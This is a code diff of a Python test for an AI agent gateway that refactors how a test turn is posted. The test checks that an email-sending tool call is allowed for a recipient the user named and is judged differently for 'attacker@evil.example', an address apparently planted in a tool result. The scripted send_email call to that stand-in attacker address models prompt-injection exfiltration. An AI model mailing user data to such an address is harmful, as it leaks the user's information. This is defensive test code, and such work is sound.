@@ -8,12 +8,12 @@ import json
 import uuid
 from typing import Any
 
-import httpx
 import pytest
+from starlette.applications import Starlette
 
 from fak_core import Policy, ToolDecl
 
-from .inprocess import in_process_gateway
+from .inprocess import in_process_gateway, post_turn
 from .scripted_upstream import Script
 
 _UPSTREAM, _STATE, _APP = in_process_gateway()
@@ -47,15 +47,9 @@ def _messages(wire: str) -> list[dict[str, Any]]:
     ]
 
 
-async def _turn(wire: str, trace: str) -> dict[str, Any]:
-    doc: dict[str, Any] = {"model": "m", "messages": _messages(wire)}
-    path = "/v1/chat/completions"
-    if wire == "anthropic":
-        path, doc["max_tokens"] = "/v1/messages", 8
-    async with httpx.AsyncClient(
-        transport=httpx.ASGITransport(app=_APP), base_url="http://gw"
-    ) as c:
-        r = await c.post(path, json=doc, headers={"x-trace-id": trace})
+async def turn_facts(app: Starlette, wire: str, trace: str) -> dict[str, Any]:
+    """The gateway's ``fak`` facts of the turn that asks to mail the page (``_messages``)."""
+    r = await post_turn(app, wire, {"model": "m", "messages": _messages(wire)}, trace)
     assert r.status_code == 200, r.text
     return dict(json.loads(r.text)["fak"])
 
@@ -68,7 +62,7 @@ def test_the_proxies_ground_the_users_words_and_never_a_tool_result(wire: str) -
     for to in ("boss@corp.example", "attacker@evil.example"):
         _UPSTREAM.reset(Script(calls=[("send_email", {"to": to, "body": "the summary"})]))
         trace = f"ground-{wire}-{uuid.uuid4().hex[:8]}"
-        fak = asyncio.run(_turn(wire, trace))
+        fak = asyncio.run(turn_facts(_APP, wire, trace))
         assert _STATE.kernel.taint(trace).label == "tainted"
         verdicts[to] = fak["adjudications"][0]["verdict"]
     assert verdicts["boss@corp.example"]["kind"] == "ALLOW"
